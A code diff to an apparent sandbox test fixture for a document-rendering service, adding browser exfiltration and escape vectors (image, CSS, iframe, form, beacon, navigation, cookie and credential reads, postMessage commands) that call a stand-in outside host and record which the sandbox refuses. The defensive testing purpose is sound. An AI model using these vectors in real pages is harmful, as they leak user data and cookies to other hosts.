@@ -4,7 +4,10 @@
  * whatever asks the service for something asks for `leak`. Plain text, for it runs in no module.
  */
 
-/** One after another; what each came to stands in `window.outcomes`. */
+/**
+ * All at once, but for those that would change what becomes of others; what each came to stands in
+ * `window.outcomes`.
+ */
 export const attacks = String.raw`
 const far = (path) => FAR + '/' + path
 const own = (path) => OWN + '/' + path
@@ -42,8 +45,10 @@ const list = {
   'fetch the service': () => fetch(own('auth/me?leak')),
   'fetch the service with its cookie': () => fetch(own('auth/me?leak'), { credentials: 'include' }),
   'write to the service': () => fetch(own('docs?leak'), { method: 'POST', body: '{"markdown":"x"}' }),
+  'write to the service unasked': () => fetch(own('docs?leak'), { method: 'POST', mode: 'no-cors', body: 'x' }),
   'ask elsewhere': () => asks(far('xhr')),
   'ask the service with its cookie': () => asks(own('auth/me?leak'), { withCredentials: true }),
+  'ask the service': () => asks(own('auth/me?leak')),
   'ask and wait': () => { const r = new XMLHttpRequest(); r.open('GET', far('sync'), false); r.send() },
   'beacon elsewhere': () => { navigator.sendBeacon(far('beacon'), 'x'); return 'nothing' },
   'beacon to the service': () => { navigator.sendBeacon(own('docs?leak'), 'x'); return 'nothing' },
@@ -54,10 +59,14 @@ const list = {
   'WebTransport': () => new WebTransport(FAR.replace('http:', 'https:')).ready,
   'image elsewhere': () => loads(make('img')),
   'image of the service': () => loads(make('img'), 'src', own('docs/leak/images/x')),
+  'image of a field': () => { put('<input type="image" src="' + far('field') + '">'); return 'nothing' },
   'srcset': () => loads(make('img'), 'srcset', far('srcset') + ' 2x'),
   'image in SVG': () => { put('<svg><image href="' + far('svg') + '"/></svg>'); return 'nothing' },
   'use in SVG': () => { put('<svg><use href="' + far('use') + '#x"/></svg>'); return 'nothing' },
   'background': () => { styled('body{background:url(' + far('background') + ')}'); return 'nothing' },
+  'background of a table': () => { put('<table background="' + far('table') + '"><tr><td>x</td></tr></table>'); return 'nothing' },
+  'content': () => { styled('h1::after{content:url(' + far('content') + ')}'); return 'nothing' },
+  'border by script': () => { document.body.style.borderImage = 'url(' + far('border') + ') 1'; return 'nothing' },
   'cursor and list marks': () => { styled('p{cursor:url(' + far('cursor') + '),auto;list-style:url(' + far('list') + ')}'); return 'nothing' },
   'image-set': () => { styled('h1{background:image-set("' + far('image-set') + '" 1x)}'); return 'nothing' },
   'imported style': () => { styled('@import "' + far('import.css') + '";'); return 'nothing' },
@@ -66,6 +75,7 @@ const list = {
   'style sheet': () => loads(make('link', { rel: 'stylesheet' }), 'href'),
   'preload': () => { link('preload', 'as=script'); return 'nothing' },
   'prefetch': () => { link('prefetch'); return 'nothing' },
+  'prerender': () => { link('prerender'); return 'nothing' },
   'DNS prefetch': () => { link('dns-prefetch'); return 'nothing' },
   'preconnect': () => { link('preconnect'); return 'nothing' },
   'module preload': () => { link('modulepreload'); return 'nothing' },
@@ -74,7 +84,9 @@ const list = {
   'speculation rules': () => { document.head.append(make('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [far('speculated')] }] }) })); return 'nothing' },
   'script elsewhere': () => loads(make('script')),
   'script of the service': () => loads(make('script'), 'src', own('assets/leak.js')),
+  'script that is written': () => { document.write('<script src="' + far('document-write') + '"><\/script>'); return 'nothing' },
   'module by import': () => import(far('module.js')),
+  'module of the service': () => import(own('assets/leak.js')),
   'worker elsewhere': () => answers(new Worker(far('worker.js'))),
   'worker that fetches': () => answers(new Worker(blob('fetch("' + far('worker-fetch') + '").then(() => postMessage("got"), () => postMessage("no"))'))),
   'worker that imports': () => answers(new Worker(blob('try{importScripts("' + far('imported.js') + '");postMessage("got")}catch{postMessage("no")}'))),
@@ -83,33 +95,46 @@ const list = {
   'worklet': () => CSS.paintWorklet.addModule(far('worklet.js')),
   'audio': () => loads(make('audio')),
   'video with poster': () => loads(make('video', { poster: far('poster') })),
+  'video': () => loads(make('video', { preload: 'auto' })),
+  'words of a video': () => { put('<video><track default src="' + far('track') + '"></video>'); return 'nothing' },
   'object': () => { put('<object data="' + far('object') + '"></object>'); return 'nothing' },
+  'object of the service': () => { put('<object data="' + own('d/leak') + '"></object>'); return 'nothing' },
   'embed': () => { put('<embed src="' + far('embed') + '">'); return 'nothing' },
   'frame elsewhere': () => { put('<iframe src="' + far('frame') + '"></iframe>'); return 'nothing' },
   'frame of the service': () => { put('<iframe src="' + own('d/leak') + '"></iframe>'); return 'nothing' },
   'frame of srcdoc': () => { put('<iframe srcdoc="&lt;script&gt;fetch(\'' + far('srcdoc') + '\')&lt;/script&gt;&lt;img src=\'' + far('srcdoc-img') + '\'&gt;"></iframe>'); return 'nothing' },
   'frame of data': () => { put('<iframe src="data:text/html,<img src=' + far('data-img') + '>"></iframe>'); return 'nothing' },
+  'frame of a script': () => { put('<iframe src="javascript:new Image().src=\'' + far('frame-script') + '\'"></iframe>'); return 'nothing' },
   'frame without a sandbox': () => { const f = make('iframe'); document.body.append(f); return f.contentWindow.fetch(far('fresh')) },
   'form': () => submits('_blank', far('form'), 'post'),
   'form over the page': () => submits('_top', far('form-top'), 'get'),
+  'form over the page to the service': () => submits('_top', own('docs?leak'), 'post'),
   'form to the service': () => submits('_blank', own('docs?leak'), 'post'),
   'form in its own place': () => submits('_self', far('form-self'), 'get'),
   'popup': () => { if (window.open(far('popup')) !== null) return 'opened'; throw new Error('none') },
   'popup of the service': () => { if (window.open(own('d/leak')) !== null) return 'opened'; throw new Error('none') },
   'link to a new tab': () => clicks({ href: far('blank'), target: '_blank' }),
   'link over the page': () => clicks({ href: far('top'), target: '_top' }),
+  'link over the parent': () => clicks({ href: far('parent-link'), target: '_parent' }),
   'ping of a link': () => clicks({ href: '#here', ping: far('ping') }),
   'download': () => clicks({ href: blob('x', 'text/plain'), download: 'x.txt' }),
+  'download elsewhere': () => clicks({ href: far('download'), target: '_blank', download: 'x' }),
   'navigate the page': () => { top.location = far('top-location') },
   'navigate the page by replace': () => { top.location.replace(far('top-replace')) },
   'navigate the parent': () => { parent.location.href = 'javascript:fetch("' + far('parent') + '")' },
   'read the page': () => parent.document.title,
   'read the address of the page': () => parent.location.href,
   'reach the element around': () => { if (window.frameElement === null) throw new Error('none'); return 'got' },
+  'read the page from its top': () => top.document.body.innerHTML,
+  'read the cookies of the page': () => parent.document.cookie,
   'message to the page': () => { for (const data of ['x', { type: 'event' }, '{"type":"doc_changed"}']) parent.postMessage(data, '*'); return 'nothing' },
+  'orders to the page': () => { parent.postMessage({ type: 'navigate', url: far('ordered'), command: 'delete' }, '*'); return 'nothing' },
+  'broadcast': () => { new BroadcastChannel('scriptorium').postMessage('x'); return 'nothing' },
   'history of the page': () => { parent.history.pushState({}, '', '/'); },
   'read cookies': () => document.cookie,
   'write cookies': () => { document.cookie = 'session=x' },
+  'domain': () => { document.domain = '127.0.0.1' },
+  'an address of another': () => history.pushState({}, '', far('pushed')),
   'localStorage': () => localStorage.setItem('x', 'x'),
   'sessionStorage': () => sessionStorage.setItem('x', 'x'),
   'IndexedDB': () => new Promise((resolve, reject) => { const r = indexedDB.open('scriptorium'); r.onsuccess = () => resolve('got'); r.onerror = () => reject(r.error) }),
@@ -120,21 +145,28 @@ const list = {
   'locks': () => navigator.locks.request('x', () => 'got'),
   'dialogs': () => { if (window.prompt('password') === null) throw new Error('none'); return 'got' },
   'clipboard': () => navigator.clipboard.readText(),
+  'credentials': () => navigator.credentials.get({ password: true }).then((got) => got === null ? Promise.reject(new Error('none')) : got),
   'place': () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('got'), reject)),
   'camera': () => navigator.mediaDevices.getUserMedia({ video: true }),
   'full screen': () => document.documentElement.requestFullscreen(),
   'origin': () => { if (window.origin === 'null') throw new Error('none'); return window.origin },
+  'words as a script': () => eval('1'),
+  'words as a function': () => new Function('return 1')(),
+}
+const last = {
   'base': () => { document.head.append(make('base', { href: FAR })); return loads(make('img'), 'src', '/based') },
   'written script': () => { document.body.insertAdjacentHTML('beforeend', '<img src="' + far('written') + '" srcset="' + far('written-set') + '">'); return 'nothing' },
   'report': () => { document.head.append(make('meta', { httpEquiv: 'Content-Security-Policy', content: "img-src 'none'; report-uri " + far('report') })); return loads(make('img'), 'src', 'data:,x') },
 }
 window.outcomes = {}
+const attempt = async ([name, attack]) => {
+  const late = new Promise((_, reject) => setTimeout(() => reject(new Error('late')), 1000))
+  try { window.outcomes[name] = (await Promise.race([attack(), late])) ?? 'done' }
+  catch (error) { window.outcomes[name] = 'refused' }
+}
 const run = async () => {
-  for (const [name, attack] of Object.entries(list)) {
-    const late = new Promise((_, reject) => setTimeout(() => reject(new Error('late')), 1000))
-    try { window.outcomes[name] = (await Promise.race([attack(), late])) ?? 'done' }
-    catch (error) { window.outcomes[name] = 'refused' }
-  }
+  await Promise.all(Object.entries(list).map(attempt))
+  for (const one of Object.entries(last)) await attempt(one)
   window.isDone = true
 }
 run()
